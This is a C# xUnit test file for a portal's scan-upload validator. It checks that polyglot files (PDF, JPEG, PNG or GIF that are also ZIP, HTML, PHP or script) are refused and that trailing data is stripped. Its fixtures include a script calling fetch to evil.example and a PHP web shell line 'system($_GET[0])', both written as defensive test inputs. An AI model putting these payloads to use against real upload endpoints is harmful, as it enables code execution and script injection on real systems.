using System.IO.Compression;
using System.Text;
using FsCheck.Fluent;
using IessPortal.Core.Features.Counter.Scans;
using IessPortal.Core.Features.Documents.Shared;
using IessPortal.Core.Platform.Uploads;
using IessPortal.Tests.Support.Hosts;
using IessPortal.Tests.Support.Inspection;
using IessPortal.Tests.Support.Journeys;
using IessPortal.Tests.Support.Samples;
using Xunit;

namespace IessPortal.Tests.Features.Counter.Scans;

/// <summary>Files that one program takes for a scan and another for something to unpack or to run.</summary>
public sealed class TwoKindsOfFileTests
{
    private const string Page = "<html><script>fetch('//evil.example')</script></html>";

    public static TheoryData<string> Refused => [.. Polyglots().Keys];

    [Theory, MemberData(nameof(Refused))]
    public async Task What_is_another_kind_as_well_is_refused(string name)
    {
        await using var portal = await TestPortal.StartAsync(DatabaseKind.Sqlite);
        var visit = await CounterVisit.AttendedAsync(portal);

        Assert.IsType<AttachScanOutcome.WrongKind>(await AttachAsync(portal, visit, Polyglots()[name]));
        Assert.Empty((await visit.StoredAsync()).Scans);
    }

    [Fact]
    public async Task What_hangs_behind_a_scan_is_not_kept()
    {
        await using var portal = await TestPortal.StartAsync(DatabaseKind.Sqlite);
        var visit = await CounterVisit.AttendedAsync(portal);
        foreach (var scan in new[] { ScanSamples.Pdf, ScanSamples.Png, ScanSamples.Jpeg })
        {
            foreach (var behind in new[] { Zip(), Encoding.ASCII.GetBytes(Page), new byte[1000] })
            {
                // A PDF's end is looked for near the file's.
                Assert.IsType<AttachScanOutcome.Attached>(await AttachAsync(portal, visit, [.. scan, .. behind]));
                Assert.Equal(
                    scan,
                    (await portal.Get<ReadScanHandler>().HandleAsync(new(visit.Id, Requirement.Identity, visit.Agent), CancellationToken.None))!.Bytes);
            }
        }
    }

    [Fact]
    public void Whatever_hangs_behind_a_picture_its_end_is_its_own()
    {
        foreach (var picture in new[] { ScanSamples.Png, ScanSamples.Jpeg })
        {
            Check.That(
                ArbMap.Default.ArbFor<byte[]>().Generator, behind => ScanKinds.Of([.. picture, .. behind])?.Length == picture.Length);
        }
    }

    [Fact]
    public void A_preview_within_a_picture_does_not_end_it_and_what_it_is_packed_into_neither()
    {
        byte[] preview = [0xFF, 0xE1, 0, 8, 0xFF, 0xD8, 0xFF, 0xD9, 0, 0];
        byte[] scan = [0xFF, 0xDA, 0, 4, 1, 2, 0x12, 0xFF, 0, 0xD9, 0xFF, 0xD0, 0x34, 0xFF, 0xFF, 0xD9];
        byte[] whole = [0xFF, 0xD8, .. preview, .. scan];

        Assert.Equal(new ScanPart(ScanKind.Jpeg, whole.Length), ScanKinds.Of(whole));
        Assert.Equal(new ScanPart(ScanKind.Jpeg, whole.Length), ScanKinds.Of([.. whole, 0xFF, 0xD9]));
    }

    [Fact]
    public void Bytes_that_only_look_like_another_kind_for_a_moment_are_no_fault()
    {
        Assert.NotNull(ScanKinds.Of([.. "%PDF-1.7\n"u8, .. "PK\x05\x06 <htmlish <b PK"u8, .. new byte[40], .. "%%EOF"u8]));
        Assert.NotNull(ScanKinds.Of(Jpeg(Encoding.ASCII.GetBytes("<x:xmpmeta xmlns:x='adobe:ns:meta/'></x:xmpmeta>"))));
    }

    private static Dictionary<string, byte[]> Polyglots() => new()
    {
        ["PDF and ZIP, which ends in its note"] = [.. "%PDF-1.7\n"u8, .. Zip(note: "\n%%EOF\n")],
        ["PDF and ZIP, which ends before"] = [.. "%PDF-1.7\n"u8, .. Zip(), .. "\n%%EOF\n"u8],
        ["PDF and page"] = [.. "%PDF-1.7\n"u8, .. Encoding.ASCII.GetBytes(Page), .. "\n%%EOF"u8],
        ["PDF and tape archive"] = At(257, "ustar"),
        ["PDF and disk image"] = At(0x8001, "CD001"),
        ["PDF and RAR"] = [.. "%PDF-1.7\nRar!\x1A\x07\0"u8, .. "\n%%EOF"u8],
        ["JPEG and page"] = Jpeg(Encoding.ASCII.GetBytes(Page)),
        ["JPEG and page in capitals"] = Jpeg("<SCRIPT SRC=//evil.example>"u8.ToArray()),
        ["JPEG and PHP"] = Jpeg("<?php system($_GET[0]);"u8.ToArray()),
        ["JPEG and ZIP"] = Jpeg(Zip()),
        ["JPEG and script"] = [0xFF, 0xD8, 0xFF, 0xE0, (byte)'/', (byte)'*', .. new byte[0x2F28], 0xFF, 0xFE, 0, 4, (byte)'*', (byte)'/', 0xFF, 0xD9],
        ["PNG and page"] = Png(Encoding.ASCII.GetBytes(Page)),
        ["PNG and ZIP"] = Png(Zip()),
        ["GIF and script"] = "GIF89a/*\0\0\0*/=1;alert(1)"u8.ToArray(),
        ["program and PDF"] = [.. "MZ"u8, .. ScanSamples.Pdf],
        ["ZIP and PDF"] = [.. Zip(), .. ScanSamples.Pdf],
        ["page and PDF"] = [.. Encoding.ASCII.GetBytes(Page), .. ScanSamples.Pdf],
        ["BMP and PNG"] = [.. "BM"u8, .. ScanSamples.Png],
    };

    private static byte[] Zip(string note = "")
    {
        using var file = new MemoryStream();
        using (var archive = new ZipArchive(file, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var entry = new StreamWriter(archive.CreateEntry("run.js").Open());
            entry.Write("alert(1)");
            archive.Comment = note;
        }

        return file.ToArray();
    }

    private static byte[] At(int place, string text)
    {
        var content = ScanSamples.PdfOf(0x9000);
        Encoding.ASCII.GetBytes(text).CopyTo(content, place);
        return content;
    }

    /// <summary>With a comment.</summary>
    private static byte[] Jpeg(byte[] comment) =>
        [0xFF, 0xD8, 0xFF, 0xFE, (byte)((comment.Length + 2) >> 8), (byte)(comment.Length + 2), .. comment, 0xFF, 0xD9];

    /// <summary>With a text.</summary>
    private static byte[] Png(byte[] text) =>
    [
        .. ScanSamples.Png.AsSpan(0, 33), 0, 0, (byte)(text.Length >> 8), (byte)text.Length, .. "tEXt"u8, .. text, 0, 0, 0, 0, .. ScanSamples.Png.AsSpan(33),
    ];

    private static Task<AttachScanOutcome> AttachAsync(TestPortal portal, CounterVisit visit, byte[] content) =>
        portal.Get<AttachScanHandler>().HandleAsync(new(visit.Id, Requirement.Identity, content, visit.Agent), CancellationToken.None);
}
